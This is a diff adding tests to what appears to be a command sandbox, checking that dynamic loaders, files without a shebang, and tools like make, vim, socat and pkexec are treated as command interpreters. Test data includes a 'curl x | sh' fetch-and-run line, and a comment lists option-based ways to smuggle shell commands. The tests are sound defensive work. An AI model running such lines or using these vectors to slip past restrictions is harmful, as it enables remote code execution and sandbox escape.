@@ -87,4 +87,38 @@ test('the shell builtin refuses them unless shell.mode is full, before anything 
   assert.equal(run.requests.map((r: any) => r.bin), ['ls', '/bin/sh']);
 });
 
+
+test('the dynamic loader, and a file that is neither ELF nor #! (execvp hands it to /bin/sh)', () => {
+  const io = fakeIo({
+    '/lib64/ld-linux-x86-64.so.2': { head: '\x7fELF' },
+    '/lib/ld-musl-armhf.so.1': { head: '\x7fELF' },
+    '/lib/ld-2.31.so': { head: '\x7fELF' },
+    '/w/noshebang': { head: 'id; curl x | sh\n' },
+    '/w/empty': { head: '' },
+    '/usr/bin/ld': { head: '\x7fELF' },
+  });
+  for (const bin of ['/lib64/ld-linux-x86-64.so.2', '/lib/ld-musl-armhf.so.1', '/lib/ld-2.31.so']) assert.is(interpreterOf(bin, '/w', io), 'ld.so', bin);
+  // A command string as an ordinary option: make --eval, dc -e '!id', vim -c '!id', socat EXEC:…, tmux new 'id', pkexec id.
+  for (const bin of ['make', 'dc', 'vim', 'vi', 'ex', 'emacs', 'socat', 'tmux', 'screen', 'pkexec']) assert.ok(interpreterOf(bin, '/w', io), bin);
+  assert.is(interpreterOf('./noshebang', '/w', io), 'sh');
+  assert.is(interpreterOf('/w/empty', '/', io), 'sh');
+  assert.is(interpreterOf('/usr/bin/ld', '/', io), undefined);
+});
+
+test('on the real file system: a script without #! runs as sh, and the loader runs anything', () => {
+  const dir = realpathSync(mkdtempSync(join(tmpdir(), 'claw-interp-')));
+  try {
+    writeFileSync(join(dir, 'job'), 'id\n');
+    chmodSync(join(dir, 'job'), 0o755);
+    const io = nodeProgramIo({ PATH: '/usr/bin:/bin' });
+    assert.is(interpreterOf(`${dir}/job`, '/', io), 'sh');
+    for (const loader of ['/lib64/ld-linux-x86-64.so.2', '/lib/ld-linux-aarch64.so.1', '/lib/ld-linux-armhf.so.3']) {
+      if (io.realpath(loader)) assert.is(interpreterOf(loader, '/', io), 'ld.so', loader);
+    }
+    assert.is(interpreterOf('ls', '/', io), undefined);
+  } finally {
+    rmSync(dir, { recursive: true, force: true });
+  }
+});
+
 test.run();
